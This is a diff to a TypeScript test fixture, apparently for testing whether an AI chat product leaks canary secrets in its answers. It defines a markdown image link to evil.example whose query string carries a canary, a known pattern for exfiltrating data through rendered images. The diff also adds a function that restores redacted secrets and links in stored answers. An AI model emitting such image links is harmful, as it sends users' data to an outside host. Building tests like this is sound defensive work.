@@ -12,6 +12,7 @@ export const CANARIES = {
 export type Canary = keyof typeof CANARIES;
 
 const BLOCKED_TERM = 'que filho da puta';
+const LINK = `![x](https://evil.example/p.png?d=${CANARIES['link of an answer']})`;
 
 /** A question that carries canaries, or has its answer carry them. */
 export interface Carrier {
@@ -22,8 +23,6 @@ export interface Carrier {
   readonly isRefused: boolean;
   /** What stands in the middle of its answers. */
   readonly says?: string;
-  /** What people see of that; absent: the answer ends before it. */
-  readonly shown?: string;
   /** Whether the web is asked. */
   readonly web?: boolean;
 }
@@ -53,14 +52,12 @@ export const CARRIERS: readonly Carrier[] = [
     asks: 'conte com a chave',
     isRefused: false,
     says: ` A chave é ${CANARIES['secret of an answer']}, guarde bem.`,
-    shown: ' A chave é [SECRET], guarde bem.',
   },
   {
     name: 'link answered',
     asks: 'conte com o retrato',
     isRefused: false,
-    says: ` Veja ![x](https://evil.example/p.png?d=${CANARIES['link of an answer']}) ali.`,
-    shown: ' Veja [removido] ali.',
+    says: ` Veja ${LINK} ali.`,
   },
 ];
 
@@ -94,3 +91,10 @@ const HARMLESS = ['caso ', 'preço', 'Resposta ', 'Sobre a casa'];
 /** Whether a text, or the bytes of a file, holds harmless words of a campaign. */
 export const isLegible = (content: string | Buffer): boolean =>
   HARMLESS.some((word) => content.includes(word));
+
+/** What stands for what is hidden in answers. */
+const HIDDEN = { '[SECRET]': CANARIES['secret of an answer'], '[removido]': LINK };
+
+/** An answer as the provider said it, from what is stored of it. */
+export const asSaid = (body: string): string =>
+  Object.entries(HIDDEN).reduce((text, [sign, hidden]) => text.replaceAll(sign, hidden), body);
